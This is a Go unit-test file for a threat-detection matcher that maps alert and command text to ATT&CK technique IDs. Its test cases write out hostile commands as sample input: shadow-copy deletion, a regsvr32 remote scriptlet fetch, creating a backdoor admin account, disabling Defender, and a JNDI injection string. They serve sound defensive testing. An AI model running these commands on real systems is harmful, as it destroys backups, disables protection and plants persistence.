package builtin

import (
	"regexp"
	"slices"
	"testing"
)

var techniqueID = regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)

func TestTechniqueTable(t *testing.T) {
	if _, err := compileCatalog(techniqueTable); err != nil {
		t.Fatal(err)
	}
	if n := len(techniqueTable); n < 40 {
		t.Errorf("only %d techniques", n)
	}
	for _, r := range techniqueTable {
		if !techniqueID.MatchString(r.ID) || r.Name == "" {
			t.Errorf("bad technique %s %q", r.ID, r.Name)
		}
		if len(r.Keywords)+len(r.Patterns) == 0 {
			t.Errorf("%s has nothing to match", r.ID)
		}
	}
	for _, r := range stepRules {
		if !slices.Contains(stepOrder, r.Category) {
			t.Errorf("step %q has unknown category %q", r.Text, r.Category)
		}
		for _, p := range r.Techniques {
			if !slices.ContainsFunc(techniqueTable, func(tr techniqueRule) bool { return matchesAny([]Technique{{ID: tr.ID}}, []string{p}) }) {
				t.Errorf("step %q names %s, which no technique rule produces", r.Text, p)
			}
		}
	}
}

func TestCompileCatalogRejects(t *testing.T) {
	tests := []struct {
		name string
		rule techniqueRule
	}{
		{"unknown tactic", techniqueRule{ID: "T1000", Tactic: "nope", Keywords: []string{"x"}}},
		{"upper-case keyword", techniqueRule{ID: "T1000", Tactic: "impact", Keywords: []string{"Mimikatz"}}},
		{"pattern without literal prefix", techniqueRule{ID: "T1000", Tactic: "impact", Patterns: []string{`(a|b)c`}}},
		{"bad pattern", techniqueRule{ID: "T1000", Tactic: "impact", Patterns: []string{`ab(`}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := compileCatalog([]techniqueRule{tt.rule}); err == nil {
				t.Error("accepted")
			}
		})
	}
	dup := techniqueRule{ID: "T1000", Tactic: "impact", Keywords: []string{"x"}}
	if _, err := compileCatalog([]techniqueRule{dup, dup}); err == nil {
		t.Error("accepted a duplicate ID")
	}
}

func TestMatchTechniques(t *testing.T) {
	tests := []struct {
		text string
		want []string
	}{
		{`cmd.exe /c vssadmin delete shadows /all /quiet & wmic shadowcopy delete`, []string{"T1490", "T1047", "T1059.003"}},
		{`psexec.exe \\dc01 -s cmd`, []string{"T1021.002"}},
		{`regsvr32 /s /n /u /i:http://x/file.sct scrobj.dll`, []string{"T1218.010"}},
		{`schtasks /create /sc minute /tn updater /tr c:\users\public\u.exe`, []string{"T1053.005"}},
		{`net user backdoor p@ss /add && net localgroup administrators backdoor /add`, []string{"T1098", "T1136.001"}},
		{`set-mppreference -disablerealtimemonitoring $true`, []string{"T1562.001"}},
		{`beacon to cobalt strike team server over https`, []string{"T1071.001"}},
		{`possible dns tunneling: long dns queries to x.example`, []string{"T1071.004"}},
		{`large upload to mega.nz via rclone`, []string{"T1567.002"}},
		{`data exfiltration over ftp to 203.0.113.9`, []string{"T1041", "T1048"}},
		{`phishing email with attachment invoice.iso`, []string{"T1566.001"}},
		{`user reported phishing`, []string{"T1566"}},
		{`ssh: 57 failed login attempts`, []string{"T1110"}},
		{`password spraying against owa`, []string{"T1110.003"}},
		{`new administrator account created`, []string{"T1136"}},
		{`${jndi:ldap://x/a} in user-agent`, []string{"T1190"}},
		{`lsassy and lsass-like words: lsassx`, []string{"T1003.001"}},
		{`the lsassx process`, nil},
		{`windows update heartbeat`, nil},
		{`adversary tor network traffic, t1090.003`, []string{"T1090.003"}},
	}
	for _, tt := range tests {
		t.Run(tt.text, func(t *testing.T) {
			got := slices.Sorted(slices.Values(techniqueIDs(techniques.match(tt.text))))
			want := slices.Sorted(slices.Values(tt.want))
			if !slices.Equal(got, want) {
				t.Errorf("match = %v, want %v", got, want)
			}
		})
	}
}

func TestVendorTechniqueIDs(t *testing.T) {
	got := vendorTechniqueIDs("attack.t1059.001 t1003,t1003 xt1110 t12345 t1027.01 (t1486)")
	want := []string{"T1059.001", "T1003", "T1486"}
	if !slices.Equal(got, want) {
		t.Errorf("got %v, want %v", got, want)
	}
}
